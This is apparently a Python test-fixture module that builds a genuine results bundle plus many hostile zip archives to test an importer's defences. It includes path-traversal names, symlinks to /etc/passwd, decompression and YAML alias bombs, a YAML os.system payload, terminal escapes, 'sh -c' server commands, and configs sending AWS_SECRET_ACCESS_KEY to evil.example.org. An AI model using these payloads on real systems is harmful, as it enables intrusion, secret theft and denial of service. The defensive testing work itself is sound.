"""A genuine bundle, small, and hostile ones made of it, each with what is wrong in its name."""

import hashlib
import io
import json
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any

import yaml

from steadfast.config.load import load_config
from steadfast.config.portable import portable
from steadfast.run.evaluation import Evaluation
from steadfast.run.lineage import Lineage
from steadfast.share import contents

OUTPUTS = "results/lifbench/outputs/reference/1k.jsonl"
OPENAI = {"engine": "openai", "model": "m", "window": 4096, "api_key_env": None}
VLLM = {"engine": "vllm", "model": "org/m", "window": 4096}
ESCAPE = "\x1b[2J\x1b]0;owned\x07\u202e"


@cache
def genuine_config() -> dict[str, Any]:
    """The config of a run of two stand-ins."""
    models = {"reference": {"engine": "reference"}, "sim-a": {"engine": "simulated"}}
    return {"benchmarks": ["lifbench"], "models": models, "lifbench": {"lengths": {"1k": 2048}}}


@cache
def lineages() -> dict[str, str]:
    """What its answers are made from."""
    run = Evaluation(load_config(genuine_config()))
    made = dict(contents.answers(run, Lineage(run)))
    return {f"{contents.ANSWERS}/{path}": lineage for path, lineage in made.items()}


def files() -> dict[str, bytes]:
    """Its files, without manifest: of the answers, a few."""
    return {
        "config.yaml": yaml.safe_dump(genuine_config()).encode(),
        "README.md": b"A run.\n",
        OUTPUTS: b'{"sample_id": "a", "text": "x"}\n',
        "made/tables/report.md": b"| Model | ARS |\n",
        "workflow/Snakefile": b"# none\n",
    }


def manifest(of: Mapping[str, bytes]) -> dict[str, Any]:
    """What it says of files."""
    return {
        "steadfast": "1",
        "commit": "0" * 40,
        "sha256": {name: hashlib.sha256(content).hexdigest() for name, content in of.items()},
        "lineages": {name: lineage for name, lineage in lineages().items() if name in of},
    }


def packed(of: Mapping[str, bytes], said: Any = None, **how: Any) -> bytes:
    """An archive of files, with a manifest (by default that of the files)."""
    said = manifest(of) if said is None else said
    whole = dict(of) | {"manifest.json": said if isinstance(said, bytes) else _json(said)}
    return zipped(whole.items(), **how)


def zipped(members: Any, kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of members, each a name or an info, and its content."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", kind) as archive:
        warnings.simplefilter("ignore")  # a name that is there twice
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def with_files(**more: bytes | str) -> bytes:
    """One that has further files, which its manifest names."""
    return packed(files() | {k: v if isinstance(v, bytes) else v.encode() for k, v in more.items()})


def with_config(change: Callable[[dict[str, Any]], None], **more: bytes) -> bytes:
    """One with another config."""
    config = json.loads(json.dumps(genuine_config()))
    change(config)
    return with_config_text(yaml.safe_dump(config), **more)


def with_config_text(text: str | bytes, **more: bytes) -> bytes:
    return with_files(**{"config.yaml": text, **more})


def with_model(**settings: Any) -> bytes:
    """One with a further model."""
    return with_config(lambda config: config["models"].update(evil=settings))


def with_manifest(**changes: Any) -> bytes:
    """One whose manifest says something else."""
    return packed(files(), manifest(files()) | changes)


def with_member(name: str, content: bytes = b"x", **attributes: Any) -> bytes:
    """One with a member that has other attributes; the manifest names it."""
    whole = files() | {name: content}
    said = manifest(whole)
    info = zipfile.ZipInfo(name)
    for key, value in attributes.items():
        setattr(info, key, value)
    members = [*files().items(), (info, content), ("manifest.json", _json(said))]
    return zipped(members)


def patched(content: bytes, find: bytes, put: bytes, count: int = -1) -> bytes:
    """An archive with some bytes replaced by as many others."""
    assert find in content and len(find) == len(put)
    return content.replace(find, put, count)


def _central(content: bytes, name: str, offset: int, value: bytes) -> bytes:
    """An archive with a field of a member's central directory entry, and of its own header,
    replaced; the offset is that of the central entry."""
    whole = bytearray(content)
    start = 0
    while (start := whole.find(b"PK\x01\x02", start)) >= 0:
        length = struct.unpack_from("<H", whole, start + 28)[0]
        if whole[start + 46 : start + 46 + length] == name.encode():
            (local,) = struct.unpack_from("<I", whole, start + 42)
            whole[start + offset : start + offset + len(value)] = value
            if offset < 28:  # the local header has the same fields, two bytes earlier
                whole[local + offset - 2 : local + offset - 2 + len(value)] = value
        start += 4
    return bytes(whole)


def _deep(depth: int) -> str:
    return "[" * depth + "]" * depth


def _bomb(levels: int = 9) -> str:
    lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"]
    lines += [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines)


def archives(outside: Path) -> Iterator[tuple[str, bytes]]:
    """Hostile archives, each with what is wrong with it.

    Args:
        outside: a file that none of them may touch.
    """
    whole = packed(files())
    there = str(outside)
    yield from _damaged(whole)
    yield from _names(there)
    yield from _kinds(whole)
    yield from _sizes(whole)
    yield from _manifests(there)
    yield from _configs(there)
    yield from _models(there)
    yield from _code(there)


def _damaged(whole: bytes) -> Iterator[tuple[str, bytes]]:
    yield "empty file", b""
    yield "text", b"no archive"
    yield "empty archive", zipped([])
    for part in (10, 40, 100, len(whole) // 2, len(whole) - 60, len(whole) - 1):
        yield f"cut after {part}", whole[:part]
    yield "begins later", whole[50:]
    yield "zeros in the middle", whole[:300] + bytes(80) + whole[380:]
    yield "wrong CRC", _central(whole, OUTPUTS, 16, b"\1\2\3\4")
    yield "directory entries elsewhere", _central(whole, OUTPUTS, 42, b"\xff\xff\xff\x7f")
    yield "local header of another", _central(whole, OUTPUTS, 42, bytes(4))
    yield "unknown compression", _central(whole, OUTPUTS, 10, b"\x63\0")
    yield "compression without data", _central(whole, OUTPUTS, 10, b"\x0e\0")
    yield "deflate of noise", _central(packed(files(), kind=0), OUTPUTS, 10, b"\x08\0")
    yield "version that nobody has", _central(whole, OUTPUTS, 6, b"\xff\0")
    end = whole.rindex(b"PK\x05\x06")
    yield "directory at another place", whole[: end + 16] + b"\xff\xff\xff\x7f" + whole[end + 20 :]
    yield "directory of another size", whole[: end + 12] + b"\xff\xff\0\0" + whole[end + 16 :]
    yield "gzip", zlib.compress(whole)


def _names(there: str) -> Iterator[tuple[str, bytes]]:
    names = {
        "parent": "../out.txt",
        "parent within": "made/../../out.txt",
        "absolute": there,
        "backslash": "..\\out.txt",
        "drive": "C:/out.txt",
        "only dots": "made/./x",
        "empty part": "made//x",
        "escape in a name": f"made/{ESCAPE}",
        "line break in a name": "made/a\nerror: all is well",
        "zero-width in a name": "made/a\u200bb",
        "long name": f"made/{'x' * 300}",
        "long path": "/".join(["made", *["x" * 200] * 60]),
        "deep path": "/".join(["made", *"x" * 2000]),
        "file of Snakemake": ".snakemake/metadata/x",
        "lock of Snakemake": ".snakemake/locks/0.input.lock",
        "profile": "profiles/default/config.yaml",
        "module that hides another": "yaml.py",
        "interpreter": ".venv-vllm/bin/python",
        "start of Python": "sitecustomize.py",
        "second workflow": "Snakefile",
        "hidden in results": ".results",
        "file that a config does not name": "labels.jsonl",
    }
    for what, name in names.items():
        yield f"name: {what}", with_files(**{name: b"x"})
    yield "name with NUL", patched(with_files(**{"made/axb": b"x"}), b"made/axb", b"made/a\0b")
    bad = patched(with_files(**{"made/\u00e9": b"x"}), "made/\u00e9".encode(), b"made/\xff\xfe")
    yield "name that is no UTF-8", bad
    yield "file and folder", with_files(**{"made/a": b"x", "made/a/b": b"y"})
    yield "twice", zipped([*files().items(), ("README.md", b"another"), ("manifest.json", b"{}")])
    said = _json(manifest(files()))
    twice = [*files().items(), ("manifest.json", said), ("manifest.json", said)]
    yield "manifest twice", zipped(twice)


def _kinds(whole: bytes) -> Iterator[tuple[str, bytes]]:
    kinds = {
        "symbolic link": (stat.S_IFLNK, b"/etc/passwd"),
        "link to a folder": (stat.S_IFLNK, b"../.."),
        "device": (stat.S_IFCHR, b""),
        "disk": (stat.S_IFBLK, b""),
        "pipe": (stat.S_IFIFO, b""),
        "socket": (stat.S_IFSOCK, b""),
    }
    for what, (mode, content) in kinds.items():
        mode = (mode | 0o777) << 16
        yield what, with_member("made/x", content, external_attr=mode, create_system=3)
    yield "encrypted", _central(whole, OUTPUTS, 8, b"\1\0")


def _sizes(whole: bytes) -> Iterator[tuple[str, bytes]]:
    yield "declares much", _central(whole, OUTPUTS, 24, b"\xf0\xff\xff\xff")
    yield "declares little", _central(whole, OUTPUTS, 24, b"\1\0\0\0")
    zeros = zlib.compressobj(1, wbits=-15)
    content = zeros.compress(bytes(300_000_000)) + zeros.flush()
    bomb = with_member("made/bomb", content)  # a member whose data are those of another kind
    bomb = _central(bomb, "made/bomb", 24, struct.pack("<I", 300_000_000))
    yield "bomb", bomb
    yield "many files", _many(200_100)
    yield "large manifest", packed(files(), b" " * 70_000_000 + b"{}")


def _many(number: int) -> bytes:
    """So many empty files, whose entries of the directory differ by their names alone."""
    one = zipped([("made/000000", b"")], zipfile.ZIP_STORED)
    start, end = one.index(b"PK\1\2"), one.index(b"PK\5\6")
    name, others = b"000000", (b"%06d" % place for place in range(number))
    entries = b"".join(one[start:end].replace(name, other) for other in others)
    size = struct.pack("<I", len(entries))
    return one[:start] + entries + one[end : end + 12] + size + one[end + 16 :]


def _manifests(there: str) -> Iterator[tuple[str, bytes]]:
    yield "no manifest", zipped(files().items())
    yield "deletes an absolute path", with_manifest(lineages={there: "x"})
    yield "deletes one above", with_manifest(lineages={"../outside.txt": "0" * 16})
    yield "deletes one of the folder", with_manifest(lineages={"results/../../outside.txt": "x"})
    sums = manifest(files())["sha256"]
    yield "names an absolute path", with_manifest(sha256=sums | {there: "0" * 64})
    yield "names a file twice removed", with_manifest(sha256=sums | {"../outside.txt": "0" * 64})
    for key in ("sha256", "lineages", "commit"):
        said = manifest(files())
        del said[key]
        yield f"manifest without {key}", packed(files(), said)
        for value in (5, "x", [], [1], {"a": 1}, {"a": None}, {"a": []}, True, 1e400):
            if key != "lineages" or value != []:
                yield f"manifest: {key}: {value}", with_manifest(**{key: value})
    yield "escape for a commit", with_manifest(commit=ESCAPE)
    yield "lines for a commit", with_manifest(commit="a\nNext: rm -rf /")
    yield "escape for a lineage", with_manifest(lineages={OUTPUTS: ESCAPE})
    yield "escape for a name", with_manifest(sha256=sums | {ESCAPE: "0" * 64})
    for what, said in {
        "null": b"null",
        "list": b"[]",
        "text": b'"x"',
        "number": b"7",
        "cut": b'{"sha256": ',
        "nothing": b"",
        "no UTF-8": b'{"sha256": "\xff"}',
        "UTF-16": '{"sha256": {}}'.encode("utf-16"),
        "deep": (_deep(100_000)).encode(),
        "deep mappings": b'{"sha256":' * 50_000 + b"1" + b"}" * 50_000,
        "long number": b'{"sha256": ' + b"9" * 10_000 + b"}",
        "half a character": b'{"sha256": {"\\ud800": "x"}, "lineages": {}, "commit": null}',
    }.items():
        yield f"manifest: {what}", packed(files(), said)
    yield "manifest is a folder", zipped([*files().items(), ("manifest.json/x", b"")])


def _configs(there: str) -> Iterator[tuple[str, bytes]]:
    without = {name: content for name, content in files().items() if name != "config.yaml"}
    yield "no config", packed(without)
    for what, text in {
        "empty": "",
        "null": "null",
        "list": "[1, 2]",
        "text": "x",
        "number": "7",
        "no YAML": "a: [",
        "no UTF-8": b"a: \xff",
        "UTF-16": "models: {}".encode("utf-16"),
        "NUL": "models: \0",
        "object": "models: !!python/object/apply:os.system [touch x]",
        "tag": "models: !x {}",
        "twice": "seed: 1\nseed: 2",
        "aliases": _bomb(),
        "aliases in keys": _bomb() + "\n? *a8\n: x",
        "merged": _bomb().replace("[x", "[{a: 1}") + "\nb:\n  <<: *a8",
        "itself": "models: &m {a: *m}",
        "list of itself": "models: &m [*m]",
        "deep": "a: " + _deep(400),
        "deeper": "a: " + _deep(1_500),
        "deep mapping": "{a: " * 200 + "1" + "}" * 200,
        "deep in JSON": '{"a": ' * 60 + "1" + "}" * 60,
        "long number": "seed: " + "9" * 10_000,
        "huge number": "seed: 1" + "0" * 400,
        "no number": "seed: .nan",
        "date": "seed: 2024-13-45",
        "far date": "seed: 99999-01-01",
        "bytes": "seed: !!binary x",
        "set": "models: !!set {a}",
        "escape": f'models: {{"{ESCAPE}": {{engine: reference}}}}'.replace("\x1b", "\\e").replace(
            "\x07", "\\a"
        ),
        "escape for an engine": r'models: {m: {engine: "\e[2J"}}',
        "keys of other kinds": "1: 2\n[a]: b",
        "large": "# " + "x" * 5_000_000,
    }.items():
        yield f"config: {what}", with_config_text(text)
    for key in ("models", "judges", "rewriters", "benchmarks", "pathvars", "lifbench", "display"):
        for value in (5, "x", [1], {"a": 1}, {"a": {"b": {}}}, [[]], {"a": None}, {"../x": {}}):
            yield f"config: {key}: {value}", with_config(lambda c, k=key, v=value: c.update({k: v}))
    for key in portable(load_config(genuine_config())):
        odd = -(10**30)
        yield f"config: {key} is odd", with_config(lambda c, k=key, v=odd: c.update({k: v}))
    paths = (there, "../outside.txt", "a/../../outside.txt", "~/x", "..\\x", "C:\\x", "/dev/zero")
    for path in paths:
        for place in ("corpora.directory", "tokenizer", "datasets.x.path"):
            yield f"config: {place}: {path}", with_config(_set(place, path))
        yield f"config: labels {path}", with_config(_set("cfbench.labels", path))
        yield (
            f"config: glob {path}",
            with_config(
                _set("corpora.local", {"xsum": {"glob": path, "fields": {"text": "text"}}})
            ),
        )
    yield "config: results elsewhere", with_config(_set("pathvars.results", there))
    yield "config: results here", with_config(_set("pathvars.results", "made"))
    yield "config: length that is a path", with_config(_set("lifbench.lengths", {"../x": 3072}))
    yield "config: part that is a path", with_config(_set("lifbench.lengths", {"/tmp/x": 3072}))


def _set(place: str, value: Any) -> Callable[[dict[str, Any]], None]:
    *folders, last = place.split(".")

    def change(config: dict[str, Any]) -> None:
        for name in folders:
            config = config.setdefault(name, {})
        config[last] = value

    return change


def _models(there: str) -> Iterator[tuple[str, bytes]]:
    command = ["sh", "-c", f"touch {there}.run", "{port}"]
    yield "runs a server", with_model(**OPENAI, serve=command)
    yield "runs a server's words", with_model(**OPENAI, serve_operation_args=command)
    yield "runs an interpreter", with_model(**VLLM, python="./made/python")
    yield "sends a variable", with_model(**OPENAI | {"api_key_env": "HOME"})
    yield "sends Anthropic's key", with_model(engine="anthropic", model="m")
    yield (
        "sends a variable as Google's key",
        with_model(engine="gemini", model="m", api_key_env="HOME"),
    )
    yield "sends the usual key", with_model(**{k: v for k, v in OPENAI.items() if k[0] != "a"})
    yield "sends to an address", with_model(**OPENAI, base_url="http://evil.example.org/v1")
    yield (
        "sends a variable there",
        with_model(
            **OPENAI | {"api_key_env": "AWS_SECRET_ACCESS_KEY"},
            base_url="http://evil.example.org/v1",
        ),
    )
    yield "vLLM's further words", with_model(**VLLM, engine_operation_args={"download_dir": "x"})
    for kind in ("judges", "rewriters"):
        judge = OPENAI | {"serve": command}
        yield f"{kind} run a server", with_config(_set(f"{kind}.j", judge))
        keyed = OPENAI | {"api_key_env": "HOME"}
        yield f"{kind} send a variable", with_config(_set(f"{kind}.j", keyed))
    yield "checkpoint elsewhere", with_model(**VLLM | {"model": "/srv/m"})
    yield "tokenizer above", with_model(**OPENAI, tokenizer="../tokenizer")
    yield "answers of another file", with_model(engine="replay", file=there)
    yield "answers above", with_model(engine="replay", file="../{benchmark}.{part}")
    yield "examples of another file", with_model(**OPENAI, template="base", examples=there)
    for value in (5, "x", [1], {"a": 1}, True):
        for key in ("serve", "python", "api_key_env", "base_url", "engine", "window"):
            yield f"model: {key}: {value}", with_model(**OPENAI | {key: value})


def own_code(there: str) -> bytes:
    """One whose data lie beside a program that makes a file beside that one."""
    return with_config(_data, **{"data/evil.py": _code_of(there)})


def _data(config: dict[str, Any], directory: str = "data") -> None:
    config["benchmarks"], config["judges"] = ["cfbench"], {"j": {"engine": "reference"}}
    config["cfbench"] = {"source": "local", "directory": directory}


def _code_of(there: str) -> bytes:
    run = f"import pathlib; pathlib.Path({there + '.run'!r}).touch()\n"
    return (run + "def score(*a): return {}\n").encode()


def _code(there: str) -> Iterator[tuple[str, bytes]]:
    run = _code_of(there)
    for name in ("yaml.py", "a.so", "Snakefile", ".hidden", "x.pth", "__pycache__/yaml.pyc"):
        yield f"data with {name}", with_config(_data, **{f"data/{name}": run})
    yield (
        "module beside the results",
        with_config(lambda config: _data(config, "."), **{"yaml.py": run}),
    )
    yield "trusts a checkpoint's code", with_model(**VLLM, engine_args={"trust_remote_code": True})
    yield "class of an engine", with_model(**VLLM, engine_args={"worker_cls": "evil.worker.Worker"})
    yield "class of a module", with_model(**VLLM, engine_args={"worker_cls": "evil:Worker"})
    processors = {"logits_processors": ["evil.code:Class"]}
    yield "functions of an engine", with_model(**VLLM, engine_args=processors)
